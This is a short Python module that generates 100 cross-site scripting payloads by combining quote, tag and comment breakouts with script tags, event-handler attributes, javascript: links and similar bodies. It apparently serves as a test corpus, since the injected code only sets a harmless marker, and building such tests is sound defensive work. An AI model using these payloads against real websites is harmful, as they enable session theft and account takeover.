"""What attackers type into text fields: a hundred ways to have it run as a script."""

from itertools import product

RUN = "window.__x=1"
_OPENINGS = (
    "",
    '">',
    "'>",
    "</title>",
    "</textarea>",
    "--><!--",
    "</script>",
    "{{7*7}}",
    "]]>",
    "\\",
)
_BODIES = (
    f"<script>{RUN}</script>",
    f"<img src=x onerror={RUN}>",
    f"<svg/onload={RUN}>",
    f'" onfocus="{RUN}" autofocus="',
    f"' onmouseover='{RUN}'",
    f"<a href=javascript:{RUN}>x</a>",
    f"<iframe srcdoc='<script>parent.{RUN}</script>'>",
    f"<details open ontoggle={RUN}>",
    f"<base href=//x><script>{RUN}</script>",
    f"&lt;script&gt;{RUN}&lt;/script&gt;<input onfocus={RUN} autofocus>",
)
PAYLOADS = [opening + body for opening, body in product(_OPENINGS, _BODIES)]
